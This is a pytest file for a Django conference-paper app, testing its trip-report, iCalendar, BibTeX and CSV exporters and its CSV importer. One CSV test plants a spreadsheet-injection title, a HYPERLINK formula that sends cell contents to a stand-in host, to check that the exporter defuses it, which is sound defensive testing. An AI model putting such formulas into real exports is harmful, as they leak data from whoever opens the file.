"""The exporters' texts (trip report, iCalendar, BibTeX, CSV), the CSV importer and load_shortlist."""

import csv
import datetime as dt
import io
import re

import bibtexparser
import icalendar
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from papers.exporters import bibtex, export_queryset, ics, markdown
from papers.exporters import csv as csv_export
from papers.importers.base import ImportFailed
from papers.importers.csv import import_csv
from papers.importers.openreview import import_openreview
from papers.models import Lab, Note, Paper, Presentation, ReadingStatus, Session
from tests.conftest import ICLR_2024, SHARED_DATA
from tests.factories import (
    ConferenceFactory,
    NoteFactory,
    PaperFactory,
    PresentationFactory,
    ReadingStatusFactory,
    SessionFactory,
    UserFactory,
)

SHORTLIST = SHARED_DATA / "iclr2024_attendee_shortlist.json"
UTC = dt.UTC
NOW = dt.datetime(2024, 6, 1, 12, 0, tzinfo=UTC)


@pytest.fixture
def trip(conference, lab, owner, member, paper):
    """max's ICLR: a scheduled paper, one seen on a day, one with no day, one skipped; olivia's notes beside."""
    conference.start_date, conference.end_date = dt.date(2024, 5, 7), dt.date(2024, 5, 11)
    conference.timezone = "Europe/Vienna"
    conference.save()
    session = SessionFactory(
        conference=conference,
        title="Poster Session 1",
        starts_at=dt.datetime(2024, 5, 7, 8, 45, tzinfo=UTC),
        ends_at=dt.datetime(2024, 5, 7, 10, 45, tzinfo=UTC),
        room="Halle B",
    )
    PresentationFactory(paper=paper, session=session, poster_position="#2504")
    coder = PaperFactory(
        conference=conference,
        forum_id="coder0001",
        title=r"$\mathcal{B}$-Coder: Value-Based Deep RL for Program Synthesis",
        authors=["Zishun Yu", "Yunzhe Tao"],
    )
    conformal = PaperFactory(conference=conference, forum_id="conformal1", title="Conformal Risk Control")
    skipped = PaperFactory(conference=conference, forum_id="skipped001", title="A Paper I Skipped")
    ReadingStatusFactory(user=member, paper=paper, state="shortlisted", starred=True)
    ReadingStatusFactory(user=member, paper=coder, state="shortlisted", seen_on=dt.date(2024, 5, 8))
    ReadingStatusFactory(user=member, paper=conformal, state="read")
    ReadingStatusFactory(user=member, paper=skipped, state="skipped")
    ReadingStatusFactory(user=owner, paper=conformal, state="shortlisted", starred=True)

    def note(author, on, kind, body, *, shared=True, done=False):
        return NoteFactory(author=author, paper=on, kind=kind, body=body, lab=lab if shared else None, done=done)

    note(member, paper, "summary", "Registers soak up the\nhigh-norm artifact tokens.")
    note(member, paper, "note", "Ask how many registers are enough.", shared=False)
    note(member, paper, "todo", "Read the appendix on DINOv2.", done=True)
    note(member, paper, "todo", "Try registers in our ViT.")
    note(member, coder, "question", "Does the value function transfer across languages?")
    note(member, conformal, "follow_up", "Conformal prediction: a gentle introduction.")
    note(owner, paper, "summary", "Cleaner attention maps.")
    note(owner, paper, "note", "OLIVIA-PRIVATE: compare with our own runs.", shared=False)
    note(owner, conformal, "note", "Good for the reading group.")
    Session.objects.create(
        conference=conference,
        lab=lab,
        kind="social",
        title="Lab dinner",
        starts_at=dt.datetime(2024, 5, 8, 17, 0, tzinfo=UTC),
        ends_at=dt.datetime(2024, 5, 8, 20, 0, tzinfo=UTC),
        room="Figlmüller",
    )
    Session.objects.create(
        conference=conference, lab=lab, kind="workshop", title="Re-Align workshop", day=dt.date(2024, 5, 11)
    )
    return {"session": session, "coder": coder, "conformal": conformal}


def report(conference, lab, user, *, whole_lab=False) -> str:
    papers = markdown.kept_papers(Paper.objects.for_conference(conference), lab=lab, user=user, whole_lab=whole_lab)
    return markdown.trip_report(
        list(export_queryset(papers, lab=lab, user=user)),
        conference=conference,
        lab=lab,
        user=user,
        whole_lab=whole_lab,
        events=list(markdown.lab_events(lab=lab, conference=conference)),
    )


MY_REPORT = """\
# ICLR 2024 trip report: max

3 papers, 1 starred (marked with a star below).

## Day 1 - Tuesday, May 7, 2024

1. ⭐️ [Vision Transformers Need Registers](https://openreview.net/forum?id=2dnO3LLiJ1) - Registers soak up the high-norm artifact tokens.
    - Ask how many registers are enough.
    - [x] Read the appendix on DINOv2.
    - [ ] Try registers in our ViT.

## Day 2 - Wednesday, May 8, 2024

1. [ℬ-Coder: Value-Based Deep RL for Program Synthesis](https://openreview.net/forum?id=coder0001)
    - Question: Does the value function transfer across languages?

Also that day:
- Lab dinner (Social, 19:00-22:00, Figlmüller)

## Day 5 - Saturday, May 11, 2024

Also that day:
- Re-Align workshop (Workshop)

## Other papers

1. [Conformal Risk Control](https://openreview.net/forum?id=conformal1)
    - Follow-up: Conformal prediction: a gentle introduction.
"""  # noqa: E501

LAB_REPORT = """\
# ICLR 2024 trip report: Vision Lab

3 papers, 2 starred (marked with a star below).

## Day 1 - Tuesday, May 7, 2024

1. ⭐️ [Vision Transformers Need Registers](https://openreview.net/forum?id=2dnO3LLiJ1) - Registers soak up the high-norm artifact tokens. (max); Cleaner attention maps. (olivia)
    - [x] Read the appendix on DINOv2. (max)
    - [ ] Try registers in our ViT. (max)

## Day 2 - Wednesday, May 8, 2024

1. [ℬ-Coder: Value-Based Deep RL for Program Synthesis](https://openreview.net/forum?id=coder0001)
    - Question: Does the value function transfer across languages? (max)

Also that day:
- Lab dinner (Social, 19:00-22:00, Figlmüller)

## Day 5 - Saturday, May 11, 2024

Also that day:
- Re-Align workshop (Workshop)

## Other papers

1. ⭐️ [Conformal Risk Control](https://openreview.net/forum?id=conformal1)
    - Follow-up: Conformal prediction: a gentle introduction. (max)
    - Good for the reading group. (olivia)
"""  # noqa: E501


def test_my_trip_report_reads_day_by_day(trip, conference, lab, member):
    assert report(conference, lab, member) == MY_REPORT


def test_the_labs_trip_report_has_shared_notes_only(trip, conference, lab, owner):
    assert report(conference, lab, owner, whole_lab=True) == LAB_REPORT


def test_trip_report_counts_days_from_the_first_day_when_the_conference_has_no_dates(trip, conference, lab, member):
    conference.start_date = conference.end_date = None
    conference.save()
    text = report(conference, lab, member)
    assert re.findall(r"^## .*", text, re.MULTILINE) == [
        "## Day 1 - Tuesday, May 7, 2024",
        "## Day 2 - Wednesday, May 8, 2024",
        "## Day 5 - Saturday, May 11, 2024",
        "## Other papers",
    ]


# --- iCalendar ---------------------------------------------------------------------------------------------


def agenda(conference, lab, user) -> bytes:
    papers = Paper.objects.for_conference(conference).filter(
        reading_statuses__user=user, reading_statuses__starred=True
    )
    return ics.calendar(
        list(export_queryset(papers, lab=lab, user=user)),
        conference=conference,
        lab=lab,
        user=user,
        events=list(markdown.lab_events(lab=lab, conference=conference)),
        now=NOW,
    )


def events_of(data: bytes) -> dict[str, icalendar.Event]:
    calendar = icalendar.Calendar.from_ical(data)
    return {str(event["UID"]): event for event in calendar.walk("VEVENT")}


def test_calendar_has_my_starred_papers_and_the_labs_events(trip, conference, lab, member, paper):
    data = agenda(conference, lab, member)
    events = events_of(data)
    dinner, workshop = Session.objects.filter(lab=lab).order_by("day")
    session = trip["session"]
    assert sorted(events) == sorted(
        [f"2dnO3LLiJ1-{session.pk}@iclrnotes", f"event-{dinner.pk}@iclrnotes", f"event-{workshop.pk}@iclrnotes"]
    )
    poster = events[f"2dnO3LLiJ1-{session.pk}@iclrnotes"]
    assert str(poster["SUMMARY"]) == "★ Vision Transformers Need Registers"
    assert str(poster["LOCATION"]) == "Halle B, poster #2504"
    assert str(poster["DESCRIPTION"]) == (
        "Registers soak up the high-norm artifact tokens.\nPoster Session 1\nhttps://openreview.net/forum?id=2dnO3LLiJ1"
    )
    assert poster.decoded("DTSTART") == dt.datetime(2024, 5, 7, 8, 45, tzinfo=UTC)
    assert poster.decoded("DTEND") == dt.datetime(2024, 5, 7, 10, 45, tzinfo=UTC)
    text = data.decode()
    assert "DTSTART:20240507T084500Z" in text
    assert "DTEND:20240507T104500Z" in text
    changed = max(paper.updated_at, ReadingStatus.objects.get(user=member, paper=paper).updated_at)
    summary = Note.objects.get(author=member, paper=paper, kind="summary")
    changed = max(changed, summary.updated_at).replace(microsecond=0)
    assert poster.decoded("LAST-MODIFIED") == changed
    assert poster["SEQUENCE"] == ics.sequence(changed)
    assert str(events[f"event-{dinner.pk}@iclrnotes"]["SUMMARY"]) == "Lab dinner"
    assert "DTSTART:20240508T170000Z" in text
    # A day-only event is an all-day event.
    assert events[f"event-{workshop.pk}@iclrnotes"].decoded("DTSTART") == dt.date(2024, 5, 11)
    assert "DTSTART;VALUE=DATE:20240511" in text
    assert "OLIVIA-PRIVATE" not in text


def test_calendar_uids_and_text_are_stable_across_exports(trip, conference, lab, member):
    assert agenda(conference, lab, member) == agenda(conference, lab, member)


def test_a_star_bumps_the_events_sequence(trip, conference, lab, member, paper):
    session = trip["session"]
    uid = f"2dnO3LLiJ1-{session.pk}@iclrnotes"
    before = events_of(agenda(conference, lab, member))[uid]["SEQUENCE"]
    later = dt.datetime(2030, 1, 1, tzinfo=UTC)
    Paper.objects.filter(pk=paper.pk).update(updated_at=later)
    assert events_of(agenda(conference, lab, member))[uid]["SEQUENCE"] == ics.sequence(later) > before


# --- BibTeX ------------------------------------------------------------------------------------------------


def test_bibtex_parses_with_one_entry_per_paper_and_unique_keys(conference):
    conference.start_date = dt.date(2024, 5, 7)
    papers = [
        PaperFactory(conference=conference, forum_id="a1", title="Vision Transformers Need Registers",
                     authors=["Timothée Darcet", "Maxime Oquab", "Julien Mairal"]),
        PaperFactory(conference=conference, forum_id="b2", title="Vision & Language: 100% of #tags_here",
                     authors=["Timothée Darcet"]),
        PaperFactory(conference=conference, forum_id="c3", authors=["Zishun Yu", "Tom and Jerry"],
                     title=r"$\mathcal{B}$-Coder: Value_Based RL with $k_1$ & more"),
    ]  # fmt: skip
    text = bibtex.bibliography(papers, conference=conference)
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    assert [entry.key for entry in library.entries] == ["darcet2024visiona", "darcet2024visionb", "yu2024coder"]
    first, second, third = library.entries
    assert first.entry_type == "inproceedings"
    assert first["title"] == "{Vision Transformers Need Registers}"
    assert first["author"] == "Timothée Darcet and Maxime Oquab and Julien Mairal"
    assert first["booktitle"] == "ICLR 2024"
    assert first["year"] == "2024"
    assert first["url"] == "https://openreview.net/forum?id=a1"
    assert second["title"] == r"{Vision \& Language: 100\% of \#tags\_here}"
    assert third["title"] == r"{$\mathcal{B}$-Coder: Value\_Based RL with $k_1$ \& more}"
    assert third["author"] == "Zishun Yu and {Tom and Jerry}"


def test_bibtex_keys_do_not_depend_on_the_order(conference):
    one = PaperFactory(conference=conference, forum_id="zz", title="Same Title", authors=["Ada Lovelace"])
    two = PaperFactory(conference=conference, forum_id="aa", title="Same Title", authors=["Ada Lovelace"])
    assert bibtex.citation_keys([one, two], "2024") == bibtex.citation_keys([two, one], "2024")
    assert bibtex.citation_keys([one, two], "2024") == {two.pk: "lovelace2024samea", one.pk: "lovelace2024sameb"}


# --- CSV ---------------------------------------------------------------------------------------------------


def exported_csv(conference, lab, user) -> str:
    papers = Paper.objects.for_conference(conference).order_by("title")
    return csv_export.papers_csv(list(export_queryset(papers, lab=lab, user=user)))


def test_csv_has_my_triage_and_the_labs_counts(trip, conference, lab, member):
    rows = list(csv.DictReader(io.StringIO(exported_csv(conference, lab, member))))
    assert [row["forum_id"] for row in rows] == ["coder0001", "skipped001", "conformal1", "2dnO3LLiJ1"]
    registers = rows[3]
    assert registers == {
        "forum_id": "2dnO3LLiJ1",
        "title": "Vision Transformers Need Registers",
        "authors": "Timothée Darcet; Maxime Oquab; Julien Mairal; Piotr Bojanowski",
        "tier": "oral",
        "keywords": "",
        "primary_area": "",
        "abstract": "Transformers have recently emerged as a powerful tool for learning visual representations.",
        "pdf_url": "https://openreview.net/pdf?id=2dnO3LLiJ1",
        "sessions": "Poster Session 1@2024-05-07 10:45-12:45@#2504",
        "my_state": "shortlisted",
        "my_star": "yes",
        "my_one_liner": "Registers soak up the high-norm artifact tokens.",
        "lab_stars": "1",
        "lab_reads": "0",
    }
    assert rows[2]["lab_stars"] == "1"
    assert rows[2]["lab_reads"] == "1"


def test_csv_round_trip_reproduces_papers_and_sessions(trip, conference, lab, member):
    conference_papers = Paper.objects.for_conference(conference)
    conference_papers.filter(forum_id="coder0001").update(keywords=["program synthesis", "RL"], primary_area="RL")
    # Written after an apostrophe so no spreadsheet runs it, and read back without it.
    conference_papers.filter(forum_id="skipped001").update(title='=HYPERLINK("https://x.example/?"&A2)')
    text = exported_csv(conference, lab, member)
    assert "'=HYPERLINK(" in text
    empty = ConferenceFactory(slug="copy", name="Copy", timezone="Europe/Vienna")

    summary = import_csv(text.encode(), conference=empty)

    assert (summary.created, summary.updated, summary.sessions_created, summary.presentations) == (4, 0, 1, 1)
    fields = ("forum_id", "title", "authors", "tier", "keywords", "primary_area", "abstract", "pdf_url")
    assert list(Paper.objects.filter(conference=empty).order_by("forum_id").values(*fields)) == list(
        conference_papers.order_by("forum_id").values(*fields)
    )
    copy = Presentation.objects.select_related("session").get(paper__conference=empty)
    assert (copy.paper.forum_id, copy.poster_position, copy.session.title, copy.session.kind) == (
        "2dnO3LLiJ1", "#2504", "Poster Session 1", "poster",
    )  # fmt: skip
    assert (copy.session.starts_at, copy.session.ends_at) == (trip["session"].starts_at, trip["session"].ends_at)
    # Importing again changes nothing.
    again = import_csv(text.encode(), conference=empty)
    assert (again.created, again.updated, again.sessions_created) == (0, 4, 0)
    assert Presentation.objects.filter(paper__conference=empty).count() == 1


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("title\nA\n", "The header row has no forum_id column."),
        ("forum_id,title\n", "The file holds no rows."),
        ("forum_id,title\nabc,\n", "row 2 (abc), column title: the value is empty."),
        ("forum_id,title\nok1,A\nbad id,B\n", "row 3, column forum_id: has characters other than letters"),
        ("forum_id,title,tier\nabc,A,keynote\n", "row 2 (abc), column tier: 'keynote' is not oral, spotlight"),
        ("forum_id,title,pdf_url\nabc,A,ftp://x\n", "row 2 (abc), column pdf_url: 'ftp://x' is not an http(s) URL."),
        ("forum_id,title\nabc,A\nabc,B\n", "row 3 (abc), column forum_id: abc is also in row 2 (abc)."),
        ("forum_id,title,sessions\nabc,A,Poster@2024-13-01\n", "row 2 (abc), column sessions: 'Poster@2024-13-01'"),
        ("forum_id,title,sessions\nabc,A,Poster\n", "row 2 (abc), column sessions: 'Poster' is not title@"),
    ],
)
def test_csv_import_names_the_row_and_column_and_writes_nothing(conference, text, message):
    with pytest.raises(ImportFailed) as error:
        import_csv(text.encode(), conference=conference)
    assert str(error.value).startswith(message)
    assert not Paper.objects.exists()


# --- load_shortlist and the real attendee's report ----------------------------------------------------------


@pytest.mark.slow
def test_the_real_attendees_shortlist_makes_their_trip_report(db):
    import_openreview(ICLR_2024.read_bytes())
    attendee = UserFactory(username="attendee")
    call_command("load_shortlist", str(SHORTLIST), user="attendee", stdout=io.StringIO())
    call_command("load_shortlist", str(SHORTLIST), user="attendee", stdout=io.StringIO())  # idempotent
    lab = Lab.objects.get(is_personal=True, memberships__user=attendee)
    conference = lab.sessions.first().conference
    assert ReadingStatus.objects.filter(user=attendee, state="shortlisted").count() == 67
    assert lab.sessions.count() == 3

    text = report(conference, lab, attendee)

    assert re.findall(r"^## .*", text, re.MULTILINE) == [
        "## Day 1 - Tuesday, May 7, 2024",
        "## Day 2 - Wednesday, May 8, 2024",
        "## Day 3 - Thursday, May 9, 2024",
        "## Day 4 - Friday, May 10, 2024",
        # The workshop the attendee went to on the last day: an event, no papers.
        "## Day 5 - Saturday, May 11, 2024",
    ]
    assert len(re.findall(r"^\d+\. ", text, re.MULTILINE)) == 67
    assert text.count("⭐️") == 28
    days = text.split("\n## ")[1:]
    assert [len(re.findall(r"^\d+\. ", day, re.MULTILINE)) for day in days] == [20, 18, 19, 10, 0]
    assert "Mechanistic Interpretability Social Meetup (Social)" in days[1]
    assert "First Workshop on Representational Alignment (Re-Align) (Workshop)" in days[4]


def test_the_admin_upload_page_imports_a_csv(admin_client, conference):
    data = (
        "forum_id,title,authors,tier,sessions\n"
        "adm1n,An Admin Paper,Ada Lovelace; Alan Turing,poster,Poster Session 2@2024-05-08\n"
    )
    response = admin_client.post(
        reverse("admin:papers_conference_import"),
        {"kind": "csv", "conference": conference.pk, "file": SimpleUploadedFile("papers.csv", data.encode())},
        follow=True,
    )
    assert "ICLR 2024: 1 paper from CSV (1 created, 0 updated), 1 session created, 1 presentation." in (
        response.content.decode()
    )
    paper = Paper.objects.get(forum_id="adm1n")
    assert (paper.title, paper.authors, paper.tier) == ("An Admin Paper", ["Ada Lovelace", "Alan Turing"], "poster")
    assert paper.presentations.get().session.day == dt.date(2024, 5, 8)
